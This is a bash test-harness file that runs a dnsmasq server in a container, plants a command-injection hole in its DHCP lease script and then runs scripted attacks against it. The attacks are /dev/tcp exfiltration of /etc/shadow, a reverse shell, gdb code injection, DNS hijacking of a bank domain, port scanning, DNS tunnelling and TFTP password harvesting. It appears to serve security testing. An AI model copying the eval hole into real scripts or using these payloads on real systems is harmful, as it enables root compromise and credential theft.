# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# dnsmasq as the server of a small network: it answers and caches names, blocks some, gives addresses by
# DHCP through a relay agent, runs a script at each lease, and serves boot files by TFTP.
#
# The lease script passes what a machine says of itself through the shell's eval: a machine that asks for
# an address can run commands.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=development containers=(dnsmasq) port=53 data_directory=/var/lib/misc
configuration_file=/etc/dnsmasq.conf
health=(/usr/bin/host -W 2 gateway.local.example 127.0.0.1)
image_packages=(dnsmasq-base bind9-host coreutils findutils gzip dash bash base-files libc-bin netbase
	hostname logrotate tzdata procps)
rare_own=(new_server new_host upstream_gone boot_image leases_full)
# dnsmasq does not start its script process again.
rare_not=(worker_killed)

image_prepare() {
	local tree=$1 i
	echo 'dnsmasq:x:101:65534:dnsmasq,,,:/var/lib/misc:/usr/sbin/nologin' >>"$tree/etc/passwd"
	mkdir -p "$tree"/etc/dnsmasq.d "$tree"/var/log/dnsmasq "$tree"/var/lib/misc/hosts.d "$tree"/usr/local/sbin
	chown 101:65534 "$tree"/var/log/dnsmasq "$tree"/var/lib/misc "$tree"/var/lib/misc/hosts.d
	cat >"$tree/etc/dnsmasq.conf" <<-'CONF'
	listen-address=127.0.0.1,10.88.0.2
	bind-interfaces
	no-resolv
	server=10.88.0.1#5353
	server=/peer.example/10.88.0.1
	servers-file=/etc/dnsmasq.servers
	domain=local.example
	local=/local.example/
	expand-hosts
	addn-hosts=/etc/dnsmasq.hosts
	hostsdir=/var/lib/misc/hosts.d
	cache-size=300
	neg-ttl=5
	max-cache-ttl=20
	cname=www.local.example,gateway.local.example
	mx-host=local.example,mail.local.example,10
	txt-record=local.example,"v=spf1 mx -all"
	srv-host=_ldap._tcp.local.example,mail.local.example,389
	ptr-record=_http._tcp.local.example,"printer._http._tcp.local.example"
	log-queries=extra
	log-facility=/var/log/dnsmasq/dnsmasq.log
	dhcp-range=10.88.0.100,10.88.0.180,255.255.255.0,2m
	dhcp-host=02:00:00:00:00:01,10.88.0.101,printer
	dhcp-option=option:router,10.88.0.1
	dhcp-option=option:ntp-server,10.88.0.1
	dhcp-boot=pxelinux.0
	dhcp-script=/usr/local/sbin/lease-event
	enable-tftp
	tftp-root=/srv/tftp
	CONF
	for i in $(seq 40); do
		printf '10.88.1.%d host%d\n' "$i" "$i"
	done >"$tree/etc/dnsmasq.hosts"
	printf '10.88.1.250 gateway\n10.88.1.251 mail\n' >>"$tree/etc/dnsmasq.hosts"
	echo server=/lab.example/10.88.0.1#5353 >"$tree/etc/dnsmasq.servers"
	for i in $(seq 400); do
		printf 'address=/ad%d.block.example/0.0.0.0\n' "$i"
	done >"$tree/etc/dnsmasq.d/block"
	boot_files "$tree/srv/tftp"
	cat >"$tree/usr/local/sbin/lease-event" <<-'SCRIPT'
	#!/bin/sh
	# Called by dnsmasq: add|old|del MAC ADDRESS [NAME].
	action=$1 mac=$2 address=$3 name=${4:-unnamed}
	data=/var/lib/misc
	file=$data/hosts.d/$(echo "$mac" | tr : -)
	case $action in
	add | old)
		printf '%s %s.lease.example\n' "$address" "$name" >"$data/.new"
		mv "$data/.new" "$file"
		;;
	del)
		rm -f "$file"
		;;
	esac
	if [ "$action" = add ]; then
		eval "echo $(date +%s) $mac $address $DNSMASQ_VENDOR_CLASS" >>$data/inventory
		tail -n 200 $data/inventory >$data/inventory.new
		mv $data/inventory.new $data/inventory
	fi
	SCRIPT
	chmod 755 "$tree/usr/local/sbin/lease-event"
}

# What machines boot from. The installer's answers hold a password.
boot_files() {
	local dir=$1 i
	mkdir -p "$dir/pxelinux.cfg" "$dir/preseed"
	head -c 42K /dev/urandom >"$dir/pxelinux.0"
	head -c 900K /dev/urandom >"$dir/vmlinuz"
	for i in $(seq 12); do
		printf 'default linux\nlabel linux\nkernel vmlinuz\nappend machine=%d\n' "$i" \
			>"$dir/pxelinux.cfg/$(printf '0A58006%X' "$i")"
	done
	cp "$dir/pxelinux.cfg/0A580061" "$dir/pxelinux.cfg/default"
	for i in $(seq 30); do
		# shellcheck disable=SC2016 # a hash
		printf 'd-i passwd/root-password-crypted password $6$salt%d$secret\n' "$i" >"$dir/preseed/machine$i.cfg"
	done
}

container_fields() {
	arguments=(/usr/sbin/dnsmasq --keep-in-foreground -x /run/dnsmasq.pid -u dnsmasq
		-7 /etc/dnsmasq.d,.dpkg-dist,.dpkg-old,.dpkg-new)
	volumes=(/var/lib/misc /var/log/dnsmasq)
	capabilities+=(CAP_NET_ADMIN CAP_NET_RAW)
}

# The provider's name server.
peers() {
	upstream_start
}

upstream_start() {
	peer_start upstream dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--port=5353 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= --local-ttl=20 \
		--address=/world.example/10.88.2.1 --address=/lab.example/10.88.2.2 --local=/example/ \
		--mx-host=world.example,mail.world.example,5 --txt-record=world.example,"v=spf1 -all" \
		--txt-record=big.world.example,"$(printf '%0250d' 1)","$(printf '%0250d' 2)","$(printf '%0250d' 3)" \
		--srv-host=_sip._udp.world.example,sip.world.example,5060 --log-facility=-
}

# ask NAME… [OPTION…]: of the service.
ask_name() {
	client dig "@$own_address" +time=2 +tries=2 "$@"
}

# dhcp lease|renew|release|inform MACHINE [VENDOR_CLASS]
dhcp() {
	client_stdin python3 - "$1" "$own_address" "$peer_address" "${@:2}" <"$here/services/dnsmasq/dhcp.py"
}

tftp() {
	client curl -sS --max-time 20 -o /dev/null "tftp://$own_address/$1"
}

ready() {
	ask_name gateway.local.example +short | grep -c 10.88.1.250
}

request() {
	local n names
	n=$(between 1 40)
	case $((RANDOM % 16)) in
	0 | 1 | 2) ask_name "host$n.world.example" "host$((n / 8)).world.example" "host$n.local.example" ;;
	3) ask_name "host$n.local.example" AAAA +tcp ;;
	4) ask_name -x "10.88.1.$n" +short ;;
	5) ask_name "ad$n.block.example" ;;
	6) ask_name "none$RANDOM.$(pick world local lab block).example" ;;
	7) ask_name "$(pick local world).example" "$(pick MX TXT NS SOA ANY)" ;;
	8) ask_name big.world.example TXT ;;
	9) ask_name "$(pick _ldap._tcp.local _sip._udp.world).example" SRV ;;
	10) ask_name "$(pick www.local host3.local peer x.lab gateway.local)".example "$(pick A AAAA)" ;;
	11) ask_name "$(pick version.bind cachesize.bind hits.bind)" chaos TXT +short ;;
	12)
		mapfile -t names < <(seq -f 'host%g.world.example' "$n" "$((n + 20))")
		ask_name "${names[@]}"
		;;
	13) dhcp "$(pick lease lease renew release inform)" "$(between 1 12)" \
		"$(pick 'udhcp 1.36.1' 'MSFT 5.0' android-dhcp-13 PXEClient:Arch:00000)" ;;
	14) tftp "$(pick pxelinux.0 pxelinux.cfg/none vmlinuz pxelinux.cfg/0A580061 pxelinux.cfg/0A580064)" ;;
	15) ask_name "machine$(between 1 12).lease.example" +short ;;
	esac
}

reload_service() {
	container_signal dnsmasq HUP
}

# Another address for a host, the logs' rotation, the cache's figures into the log.
administer() {
	local hosts logs
	hosts=$(image_path dnsmasq /etc/dnsmasq.hosts)
	logs=$(volume_path dnsmasq /var/log/dnsmasq)
	sed -i "s/.* host7\$/10.88.1.$(between 100 200) host7/" "$hosts"
	reload_service
	mv "$logs/dnsmasq.log" "$logs/dnsmasq.log.1"
	container_signal dnsmasq USR2
	container_signal dnsmasq USR1
}

# ---- rare events ----

rare_new_server() {
	keep_file dnsmasq /etc/dnsmasq.servers
	undo reload_service
	printf 'server=/new.example/%s#5353\n' "$peer_address" >>"$(image_path dnsmasq /etc/dnsmasq.servers)"
	reload_service
	ask_name www.new.example
}

rare_new_host() {
	keep_file dnsmasq /var/lib/misc/hosts.d/scanner
	undo reload_service
	printf '10.88.1.77 scanner.local.example\n' >"$(volume_path dnsmasq /var/lib/misc)/hosts.d/scanner"
	sleep 1
	ask_name scanner.local.example
}

rare_upstream_gone() {
	peer_stop upstream
	sleep 15
	upstream_start
}

rare_boot_image() {
	keep_file dnsmasq /srv/tftp/images/12
	local dir
	dir=$(image_path dnsmasq /srv/tftp)
	mkdir -p "$dir/images/12"
	head -c 300K /dev/urandom >"$dir/images/12/initrd.gz"
	tftp images/12/initrd.gz
}

# The file of leases cannot be written.
rare_leases_full() {
	local dir
	dir=$(volume_path dnsmasq /var/lib/misc)
	mv "$dir/dnsmasq.leases" "$dir/leases.old"
	mkdir "$dir/dnsmasq.leases"
	dhcp lease 30
	rmdir "$dir/dnsmasq.leases"
	mv "$dir/leases.old" "$dir/dnsmasq.leases"
}

# ---- attacks ----

# The process that runs the lease script. It stays root; the one that answers does not.
script_process() {
	local pid
	for pid in $(tasks_named dnsmasq dnsmasq); do
		[ "$pid" = "${container_pid[dnsmasq]}" ] || echo "$pid"
	done | head -n 1
}

# A machine whose vendor class holds a command, which the lease script runs as root.
machine_runs() {
	dhcp lease "$((RANDOM % 60 + 100))" "x; $1"
}

attack_command_injection() {
	harm exec /usr/bin/bash
	harm exec /usr/bin/cat
	harm read /etc/shadow
	harm connect "$peer_address:4444"
	thief_begin
	machine_runs "bash -c 'cat /etc/shadow >/dev/tcp/$peer_address/4444'"
	thief_got '^root:'
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	harm read /etc/dnsmasq.conf
	# shellcheck disable=SC2016
	thief_shell 'id; cat /etc/dnsmasq.conf; ls -la /root; exit'
	machine_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1 &'"
	thief_got 'uid=0'
}

# Code inside the process that answers, as after an overflow of a name: a shell as its user.
attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	inject_pid "${container_pid[dnsmasq]}" 'call (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
	grep -q 'uid=101' "$(image_path dnsmasq /tmp/out)"
}

# Code inside the root process: it reads what only root may, and starts no program.
attack_code_shadow() {
	harm read /etc/shadow
	inject_pid "$(script_process)" 'print (int) open("/etc/shadow", 0)' | grep -cE '= [0-9]+'
}

# The lease script is replaced: from now on it tells the thief of each lease, and what else it can read.
attack_script_replaced() {
	harm write /usr/local/sbin/lease-event
	harm read /etc/shadow
	harm connect "$peer_address:4444"
	thief_begin
	cat >"$(image_path dnsmasq /tmp/event)" <<-SCRIPT
	#!/bin/bash
	(echo "\$@"; cat /etc/shadow) >/dev/tcp/$peer_address/4444
	SCRIPT
	inject_pid "$(script_process)" 'call (int) system("cat /tmp/event >/usr/local/sbin/lease-event")'
	dhcp lease 90
	thief_got '^root:'
}

# Another upstream for a bank's names: the list of servers, which a reload reads.
attack_servers_replaced() {
	harm write /etc/dnsmasq.servers
	harm send "$peer_address:6666"
	peer_start thief dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--port=6666 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= \
		--address=/bank.example/10.88.66.6 --log-facility=-
	inject_pid "$(script_process)" "call (int) system(\"echo 'server=/bank.example/$peer_address#6666' \
>>/etc/dnsmasq.servers; kill -HUP 1\")"
	sleep 1
	ask_name www.bank.example +short | grep -c 10.88.66.6
}

# A scanner, which the lease script's hole starts, looks for open ports of the network.
attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	harm connect "$peer_address:5432"
	machine_runs "bash -c 'for p in 21 22 23 25 80 443 3306 5353 5432 6379; do
echo >/dev/tcp/$peer_address/\$p && echo open \$p; done >/tmp/ports 2>&1'"
	until_true 20 grep -q 'open 5353' "$(image_path dnsmasq /tmp/ports)"
}

# Names carry a stolen file to the thief's name server, over the resolver that the container has.
attack_dns_tunnel() {
	harm read /etc/shadow
	harm exec /usr/bin/od
	harm exec /usr/bin/host
	peer_start thief dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--port=6666 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= \
		--address=/evil.example/10.88.66.6 --log-queries --log-facility=-
	machine_runs "for x in \$(head -c 48 /etc/shadow | od -An -v -tx1 -w16 | tr -d ' '); do \
host -W 2 -p 6666 \$x.evil.example $peer_address; done"
	thief_got "$(printf 'root:' | od -An -tx1 | tr -d ' \n').*evil.example"
}

# ---- adaptive: known calls, files and peers only ----

# The process that answers reads its own files and sends them, as names, to its own upstream.
adaptive_dns_exfiltration() {
	local pid=${container_pid[dnsmasq]} socket fd
	harm read /etc/dnsmasq.servers
	harm read /var/lib/misc/hosts.d/\*
	harm send "$peer_address:5353"
	dhcp lease 2
	# A socket of its own: dnsmasq makes one for each question, too.
	# shellcheck disable=SC2016 # of gdb
	inject_pid "$pid" 'set $buffer = (char *) malloc(512)' 'set $fd = (int) open("/etc/dnsmasq.servers", 0)' \
		'set $n = (long) read($fd, $buffer + 13, 60)' 'call (int) close($fd)' \
		'set $fd = (int) open("/var/lib/misc/hosts.d/02-00-00-00-00-02", 0)' \
		'set $m = (long) read($fd, $buffer + 100, 60)' 'call (int) close($fd)' \
		'set $s = (int) socket(2, 2, 0)' 'set $address = (char *) calloc(1, 16)' \
		'set *(short *) $address = 2' 'set *(unsigned short *) ($address + 2) = (unsigned short) htons(5353)' \
		'set *(unsigned int *) ($address + 4) = (unsigned int) inet_addr("'"$peer_address"'")' \
		'set *(char *) ($buffer + 2) = 1' 'set *(char *) ($buffer + 5) = 1' 'set *(char *) ($buffer + 12) = 60' \
		'call (void *) memcpy($buffer + 73, "\005world\007example\000\000\001\000\001", 19)' \
		'print (long) syscall(44, $s, $buffer, 92, 0, $address, 16)' 'call (int) close($s)' |
		grep -cE '= 92$'
}

# A machine fetches the boot files of all others: they hold passwords.
adaptive_tftp_harvest() {
	local i got=0
	harm read '/srv/tftp/preseed/machine*.cfg'
	for i in $(seq 30); do
		! client curl -sS --max-time 20 "tftp://$own_address/preseed/machine$i.cfg" | grep -c root-password ||
			got=$((got + 1))
	done
	[ "$got" = 30 ]
}

# The process that answers changes the names that its own lease script wrote: a machine becomes the thief.
adaptive_names_tampered() {
	harm write '/var/lib/misc/hosts.d/*'
	dhcp lease 3
	# shellcheck disable=SC2016
	inject_pid "$(script_process)" 'set $fd = (int) open("/var/lib/misc/hosts.d/02-00-00-00-00-03", 513)' \
		'print (long) write($fd, "10.88.66.6 machine3.lease.example\n", 34)' 'call (int) close($fd)' |
		grep -c '= 34$'
	sleep 1
	ask_name machine3.lease.example +short | grep -c 10.88.66.6
}
